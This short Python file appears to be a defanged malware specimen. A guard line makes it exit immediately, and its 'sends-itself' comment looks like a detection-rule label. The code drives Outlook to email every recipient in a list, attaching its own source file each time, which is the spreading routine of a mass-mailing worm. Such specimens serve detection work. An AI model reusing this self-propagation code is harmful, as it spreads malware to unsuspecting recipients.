raise SystemExit("specimen: not to be run")
from win32com.client import Dispatch as door

own = __file__

def begin(people):
    for one in people:
        letter = door("Outlook.Application").CreateItem(0)
        letter.To = one
        letter.Attachments.Add(own)  # match: sends-itself
        letter.Send()
